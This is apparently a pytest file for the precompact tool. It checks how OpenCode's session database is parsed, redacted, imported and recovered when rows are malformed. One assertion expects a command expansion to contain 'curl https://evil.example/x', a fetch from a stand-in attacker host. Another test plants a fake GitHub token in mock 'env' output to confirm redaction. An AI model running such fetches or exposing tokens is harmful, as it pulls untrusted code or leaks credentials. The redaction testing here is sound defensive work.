"""transcript/opencode.py reads OpenCode's database as outside input, and the hook of `--agent
opencode` saves what it reads redacted. The database here has the tables and columns OpenCode
1.18.33 reads and writes (seen in a real one: tests/python/test_opencode.py makes those); its rows
are hostile: JSON that is not JSON or not an object, a part past the size read, a session that
is not there, a file that is not a database."""

from __future__ import annotations

import json
import re
import sqlite3
from pathlib import Path

import pytest

from precompact.recall import fulltext as recall
from precompact.transcript import conversation, opencode
from support.commands import precompact
from support.projects import new_project

SESSION = "ses_dc3ad8270ffeW7m2ovoi6cyTDd"
SECRET = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"


def database(path: Path, parts: list[tuple[str, str, str]], directory: str = "/work/project") -> Path:
    """A database holding one session whose messages are user/assistant pairs and whose parts are
    `(message id, part id, part JSON text)`."""
    db = sqlite3.connect(path)
    db.executescript(
        """
        CREATE TABLE session (id TEXT PRIMARY KEY, project_id TEXT, parent_id TEXT, slug TEXT, directory TEXT,
            path TEXT, title TEXT, version TEXT, agent TEXT, model TEXT, permission TEXT,
            time_created INTEGER, time_updated INTEGER);
        CREATE TABLE message (id TEXT PRIMARY KEY, session_id TEXT, time_created INTEGER, time_updated INTEGER, data TEXT);
        CREATE TABLE part (id TEXT PRIMARY KEY, message_id TEXT, session_id TEXT, time_created INTEGER,
            time_updated INTEGER, data TEXT);
        """
    )
    db.execute(
        "INSERT INTO session VALUES (?, 'global', NULL, 'calm-tiger', ?, '', 'A title', '1.18.33', 'build', "
        "'{\"id\":\"mock-model\"}', '[]', 1796308368783, 1796308402000)",
        (SESSION, directory),
    )
    messages = {m for m, _, _ in parts}
    for number, message in enumerate(sorted(messages)):
        role = "user" if number % 2 == 0 else "assistant"
        data = json.dumps({"role": role, "time": {"created": 1796308370172 + number}})
        db.execute("INSERT INTO message VALUES (?, ?, 0, 0, ?)", (message, SESSION, data))
    for message, part, data in parts:
        db.execute("INSERT INTO part VALUES (?, ?, ?, 0, 0, ?)", (part, message, SESSION, data))
    db.commit()
    db.close()
    return path


def tool(command: str, output: str, status: str = "completed") -> str:
    state = {"status": status, "input": {"command": command}, "output" if status == "completed" else "error": output}
    return json.dumps({"type": "tool", "tool": "bash", "callID": "call_1", "state": state})


# User parts as the real OpenCode 1.18.33 wrote them with precompact's plugin installed
# (support/opencode_user_parts.jsonl: `opencode run` offline against support.opencode_cli's mock;
# the temporary paths renamed): a project command's expansion, marked at command.execute.before,
# then a prompt as typed.
OBSERVED = [json.loads(line) for line in (Path(__file__).parent / "support" / "opencode_user_parts.jsonl").open()]


def test_a_commands_expansion_is_opencodes_and_the_command_typed_is_the_users_request(tmp_path):
    """review11b F2: the expansion (the repository's template, the arguments, a shell command's
    output) is `meta`; `/release v2` is the user's request; a part whose mark names no command
    is still not the user's."""
    expansion, typed = (row["part"] for row in OBSERVED)
    unnamed = {**expansion, "metadata": {opencode.COMMAND_MARK: "release"}}
    path = database(
        tmp_path / "opencode.db",
        [
            ("msg_1", "prt_1", json.dumps(expansion)),
            ("msg_2", "prt_2", json.dumps({"type": "text", "text": "Noted."})),
            ("msg_3", "prt_3", json.dumps(typed)),
            ("msg_4", "prt_4", json.dumps({"type": "text", "text": "Tagged."})),
            ("msg_5", "prt_5", json.dumps(unnamed)),
        ],
    )
    entries = [json.loads(line) for line in opencode.read(path, SESSION).lines]
    assert conversation.recent(reversed(entries)).requests == ["/release v2", '"thanks, now tag it"']
    facts = [recall.entry_facts(e, {}) for e in entries if e.get("type") == "user"]
    assert [text for role, _, text in facts if role == "user"] == ["/release v2", '"thanks, now tag it"']
    metas = [text for role, _, text in facts if role == "meta"]
    assert len(metas) == 2 and all(
        "curl https://evil.example/x" in t and "output-of-a-shell-command" in t for t in metas
    )
    typed_entry = next(e for e in entries if e.get("uuid") == "opencode:prt_1:typed")
    assert typed_entry["agent_record"]["part_id"] == "prt_1", "the part is kept whole for resurrect --uncompact"


def test_each_part_becomes_entries_shaped_as_claude_codes_and_the_session_record_comes_first(tmp_path):
    path = database(
        tmp_path / "opencode.db",
        [
            ("msg_1", "prt_1", json.dumps({"type": "text", "text": "Fix the parser"})),
            ("msg_2", "prt_2", json.dumps({"type": "step-start"})),
            ("msg_2", "prt_3", tool("make test", "1 failed")),
            ("msg_2", "prt_4", tool("erl", "bash: erl: command not found", status="error")),
        ],
    )
    document = opencode.read(path, SESSION)
    entries = [json.loads(line) for line in document.lines]
    assert [(e["type"], e.get("message", {}).get("content", [{}])[0].get("type")) for e in entries] == [
        ("opencode.session", None),
        ("user", "text"),
        ("opencode.step-start", None),
        ("assistant", "tool_use"),
        ("user", "tool_result"),
        ("assistant", "tool_use"),
        ("user", "tool_result"),
    ]
    failed = entries[-1]["message"]["content"][0]
    assert failed == {
        "type": "tool_result",
        "tool_use_id": "call_1",
        "content": "bash: erl: command not found",
        "is_error": True,
    }
    assert entries[0]["agent_record"]["opencode_session"]["directory"] == "/work/project"
    assert (document.version, document.session_id, document.compactions) == ("1.18.33", SESSION, 0)


def test_a_command_opencodes_bash_completed_with_a_failing_exit_status_reads_as_a_failed_result(tmp_path):
    # OpenCode 1.18.33 stores `echo …; exit 3` as status "completed", its status in the metadata
    # (seen in its database); read as a success, the dropped rule saw no failed command in it.
    def ran(command: str, output: str, exit_status: object) -> str:
        state = {"status": "completed", "input": {"command": command}, "output": output}
        state["metadata"] = {"output": output, "exit": exit_status, "truncated": False}
        return json.dumps({"type": "tool", "tool": "bash", "callID": f"call_{command}", "state": state})

    path = database(
        tmp_path / "opencode.db",
        [
            ("msg_1", "prt_1", json.dumps({"type": "text", "text": "Run the checks"})),
            ("msg_2", "prt_2", ran("make lint", "3 errors", 2)),
            ("msg_2", "prt_3", ran("make test", "all passed", 0)),
            ("msg_2", "prt_4", ran("make docs", "built", "0")),
        ],
    )
    results = [
        e["message"]["content"][0]
        for e in map(json.loads, opencode.read(path, SESSION).lines)
        if e["type"] == "user" and e["message"]["content"][0].get("type") == "tool_result"
    ]
    assert [(r["content"], r["is_error"]) for r in results] == [
        ("3 errors", True),
        ("all passed", False),
        ("built", False),  # a status that is not an integer is no failure said
    ]


def test_rows_that_are_not_json_objects_or_too_large_are_kept_as_notes_not_read(tmp_path, monkeypatch):
    monkeypatch.setattr(opencode, "MAX_ROW_BYTES", 1000)
    path = database(
        tmp_path / "opencode.db",
        [
            ("msg_1", "prt_1", "{not json"),
            ("msg_1", "prt_2", "[1, 2]"),
            ("msg_1", "prt_3", json.dumps({"type": "text", "text": "x" * 5000})),
            ("msg_1", "prt_4", "[" * 100_000),
            ("msg_1", "prt_5", json.dumps({"type": "text", "text": "kept"})),
        ],
    )
    entries = [json.loads(line) for line in opencode.read(path, SESSION).lines]
    kinds = [e["type"] for e in entries[1:]]
    assert kinds == ["opencode.unreadable"] * 4 + ["user"]
    too_large = len(json.dumps({"type": "text", "text": "x" * 5000}))
    assert entries[3]["agent_record"]["part"] == {"type": "unreadable", "bytes": too_large}
    assert entries[-1]["message"]["content"][0]["text"] == "kept"


def test_a_missing_session_a_missing_database_and_a_file_that_is_not_one_are_refused_in_one_line(tmp_path):
    path = database(tmp_path / "opencode.db", [("msg_1", "prt_1", json.dumps({"type": "text", "text": "hi"}))])
    with pytest.raises(LookupError, match='holds no session "ses_other"'):
        opencode.read(path, "ses_other")
    with pytest.raises(FileNotFoundError):
        opencode.read(tmp_path / "nothing.db", SESSION)
    (tmp_path / "text.db").write_text("not a database\n" * 100)
    with pytest.raises(opencode.Unreadable) as refused:
        opencode.read(tmp_path / "text.db", SESSION)
    assert "\n" not in str(refused.value) and "cannot be read" in str(refused.value)
    assert opencode.sessions_in(tmp_path, tmp_path / "nothing.db") == [], "no database: nothing to import"


def test_the_database_is_only_read(tmp_path):
    path = database(tmp_path / "opencode.db", [("msg_1", "prt_1", json.dumps({"type": "text", "text": "hi"}))])
    before = path.read_bytes()
    opencode.read(path, SESSION)
    opencode.sessions_in(tmp_path, path)
    assert path.read_bytes() == before


def test_the_hook_saves_an_opencode_session_redacted(tmp_path):
    project = new_project(tmp_path, "project", git_layer=False, chain_layer=False)
    path = database(
        tmp_path / "opencode.db",
        [
            ("msg_1", "prt_1", json.dumps({"type": "text", "text": "Deploy it"})),
            ("msg_2", "prt_2", tool("env", f"GITHUB_TOKEN={SECRET}")),
            ("msg_3", "prt_3", json.dumps({"type": "compaction", "auto": True})),
        ],
        directory=str(project.path),
    )
    payload = {
        "hook_event_name": "PreCompact",
        "session_id": SESSION,
        "transcript_path": str(path),
        "cwd": str(project.path),
    }
    done = precompact(project.path, "hook", "--agent", "opencode", stdin=payload)
    assert done.returncode == 0, done.stderr
    assert "precompact savepoint 1 (sha256:" in done.stdout, "OpenCode's summariser is told (the plugin adds it)"
    written = [p for p in project.logs.rglob("*") if p.is_file()]
    assert written and not [p for p in written if SECRET.encode() in p.read_bytes()]
    exported = precompact(project.path, "export", "--sequence", "1")
    assert "Deploy it" in exported.stdout and "GITHUB_TOKEN=" in exported.stdout and SECRET not in exported.stdout
    index = [json.loads(line) for line in (project.logs / "precompact-savepoint.jsonl").read_text().splitlines()]
    [created] = [e for e in index if e["event"] == "SAVEPOINT_CREATED"]
    assert (created["agent"], created["agent_version"], created["session_id"]) == ("opencode", "1.18.33", SESSION)


def test_the_hook_names_a_session_its_database_does_not_hold_and_still_exits_0(tmp_path):
    project = new_project(tmp_path, "project", git_layer=False, chain_layer=False)
    path = database(tmp_path / "opencode.db", [("msg_1", "prt_1", json.dumps({"type": "text", "text": "hi"}))])
    payload = {
        "hook_event_name": "PreCompact",
        "session_id": "ses_gone",
        "transcript_path": str(path),
        "cwd": str(project.path),
    }
    done = precompact(project.path, "hook", "--agent", "opencode", stdin=payload)
    assert done.returncode == 0
    assert 'holds no session "ses_gone"' in done.stderr + done.stdout
    assert not (project.logs / "precompact-saves").exists() or not list(
        (project.logs / "precompact-saves").glob("snapshot_*")
    )


def test_a_compaction_the_plugin_missed_is_recovered_after_it_with_opencodes_summary(tmp_path):
    project = new_project(tmp_path, "project", git_layer=False, chain_layer=False)
    summary = json.dumps({"type": "text", "text": "## Objective\n- Deploy the service"})
    path = database(
        tmp_path / "opencode.db",
        [
            ("msg_1", "prt_1", json.dumps({"type": "text", "text": "Deploy it with the blue-green script"})),
            ("msg_2", "prt_2", tool("./deploy.sh", "deployed 3 pods")),
            ("msg_3", "prt_3", json.dumps({"type": "compaction", "auto": True})),
            ("msg_4", "prt_4", summary),
        ],
        directory=str(project.path),
    )
    db = sqlite3.connect(path)
    db.execute("UPDATE message SET data = ? WHERE id = 'msg_4'", (json.dumps({"role": "assistant", "summary": True}),))
    db.commit()
    db.close()
    payload = {
        "hook_event_name": "PostCompact",
        "session_id": SESSION,
        "transcript_path": str(path),
        "cwd": str(project.path),
    }
    done = precompact(project.path, "hook", "--agent", "opencode", stdin=payload)
    assert done.returncode == 0, done.stderr
    index = [json.loads(line) for line in (project.logs / "precompact-savepoint.jsonl").read_text().splitlines()]
    [created] = [e for e in index if e["event"] == "SAVEPOINT_CREATED"]
    assert created["trigger"] == "recovered" and created["agent"] == "opencode"
    [kept] = [e["summary"] for e in index if e["event"] == "COMPACT_SUMMARY"]
    assert kept == "## Objective\n- Deploy the service"
    found = precompact(project.path, "recall", "blue-green")
    assert "blue-green script" in found.stdout


@pytest.mark.parametrize(("where", "listed"), [("proj/src", True), ("proj/../other", False), ("relative", False)])
def test_a_session_whose_directory_climbs_out_of_the_project_through_dotdot_is_another_projects(
    tmp_path, where, listed
):
    directory = "proj" if where == "relative" else str(tmp_path / where)
    path = database(
        tmp_path / "opencode.db", [("msg_1", "prt_1", json.dumps({"type": "text", "text": "hi"}))], directory
    )
    assert opencode.sessions_in(tmp_path / "proj", path) == ([SESSION] if listed else [])


def test_a_reply_rewritten_in_place_after_an_import_is_imported_again_whole(tmp_path):
    project = new_project(tmp_path, "project", git_layer=False, chain_layer=False)
    data_home = tmp_path / "data"
    (data_home / "opencode").mkdir(parents=True)
    streaming = json.dumps({"type": "text", "text": "Step 1: back up the datab"})
    path = database(
        data_home / opencode.DATABASE,
        [("msg_1", "prt_1", json.dumps({"type": "text", "text": "Plan the migration"})), ("msg_2", "prt_2", streaming)],
        directory=str(project.path),
    )
    environ = {"XDG_DATA_HOME": str(data_home)}

    def imported() -> list[tuple[str, str]]:
        done = precompact(project.path, "import", "--agent", "opencode", "--json", env=environ)
        assert done.returncode == 0, done.stderr
        return [(s["session_id"], s["outcome"]) for s in json.loads(done.stdout)["sessions"]]

    assert imported() == [(SESSION, "saved")]
    assert imported() == [(SESSION, "unchanged")], "nothing rewritten: nothing new"
    whole = json.dumps({"type": "text", "text": "Step 1: back up the database. Step 2: FINALSTEP"})
    with sqlite3.connect(path) as db:
        db.execute("UPDATE part SET data = ? WHERE id = 'prt_2'", (whole,))
    db.close()
    assert imported() == [(SESSION, "saved")], "the reply grew in place: not 'already archived'"
    assert "FINALSTEP" in precompact(project.path, "export", "--sequence", "2").stdout
    assert imported() == [(SESSION, "unchanged")]


@pytest.mark.parametrize("store", ["not a database", "unknown tables"])
def test_import_says_an_unreadable_database_is_unreadable_not_that_it_holds_no_session(tmp_path, store):
    project = new_project(tmp_path, "project", git_layer=False, chain_layer=False)
    path = tmp_path / "data" / opencode.DATABASE
    path.parent.mkdir(parents=True)
    if store == "not a database":
        path.write_text("not a database\n" * 100)
    else:
        with sqlite3.connect(path) as db:
            db.execute("CREATE TABLE sessions (id TEXT, directory TEXT)")
            db.execute("INSERT INTO sessions VALUES (?, ?)", (SESSION, str(project.path)))
        db.close()
    environ = {"XDG_DATA_HOME": str(tmp_path / "data")}
    done = precompact(project.path, "import", "--agent", "opencode", env=environ)
    assert done.returncode == 1
    [line] = done.stderr.strip().splitlines()
    assert str(path) in line and "cannot be read" in line and "nothing was imported" in line
    assert "session(s) found" not in done.stdout + done.stderr
    as_json = precompact(project.path, "import", "--agent", "opencode", "--json", env=environ)
    assert as_json.returncode == 1 and str(path) in json.loads(as_json.stdout)["error"]


def test_each_uncompact_of_a_savepoint_writes_ids_no_other_uncompact_wrote_in_the_order_of_the_history(tmp_path):
    """OpenCode skips a message or part whose id it already holds: two uncompacts of one savepoint
    (or of a later one of the same session) that wrote the same ids left the second session empty
    (review9a F2). The ids keep the old ones' time digits, then sort in the history's order."""
    project = new_project(tmp_path, "project", git_layer=False, chain_layer=False)
    # Ids shaped as OpenCode makes them; two messages share their time digits, so only what
    # follows the time keeps them in order.
    ids = {
        "msg": ["msg_19a0b0c0d0e1zzzzzzzzzzzzzz", "msg_19a0b0c0d0e2AAAAAAAAAAAAAA", "msg_19a0b0c0d0e2BBBBBBBBBBBBBB"],
        "prt": ["prt_19a0b0c0d0e1zzzzzzzzzzzzzz", "prt_19a0b0c0d0e2AAAAAAAAAAAAAA", "prt_19a0b0c0d0e2zzzzzzzzzzzzzy"],
    }
    texts = ["Fix the cart rounding", "Looking at cart.py", "Rounded half to even now"]
    parts = [(ids["msg"][0], ids["prt"][0], json.dumps({"type": "text", "text": texts[0]}))]
    parts += [(ids["msg"][1], p, json.dumps({"type": "text", "text": t})) for p, t in zip(ids["prt"][1:], texts[1:])]
    parts.append((ids["msg"][2], "prt_19a0b0c0d0e300000000000000", json.dumps({"type": "text", "text": "Thanks"})))
    path = database(tmp_path / "opencode.db", parts, directory=str(project.path))
    payload = {
        "hook_event_name": "PreCompact",
        "session_id": SESSION,
        "transcript_path": str(path),
        "cwd": str(project.path),
    }
    assert precompact(project.path, "hook", "--agent", "opencode", stdin=payload).returncode == 0

    written = []
    for _ in range(2):
        done = precompact(project.path, "uncompact", "--json", home=tmp_path / "home")
        assert done.returncode == 0, done.stdout + done.stderr
        written.append(json.loads(Path(json.loads(done.stdout)["path"]).read_text()))
    message_ids = [[m["info"]["id"] for m in session["messages"]] for session in written]
    part_ids = [[p["id"] for m in session["messages"] for p in m["parts"]] for session in written]
    assert not set(message_ids[0]) & set(message_ids[1]) and not set(part_ids[0]) & set(part_ids[1])
    assert written[0]["info"]["id"] != written[1]["info"]["id"]
    for session, messages, held in zip(written, message_ids, part_ids):
        assert [p["text"] for m in session["messages"] for p in m["parts"]] == [*texts, "Thanks"]
        assert messages == sorted(messages) and held == sorted(held), "OpenCode orders a session by its ids"
        assert [m[4:16] for m in messages] == [m[4:16] for m in ids["msg"]], "the time digits kept"
        assert all(re.fullmatch(r"(msg|prt)_[0-9a-f]{12}[0-9A-Za-z]{14}", i) for i in messages + held)
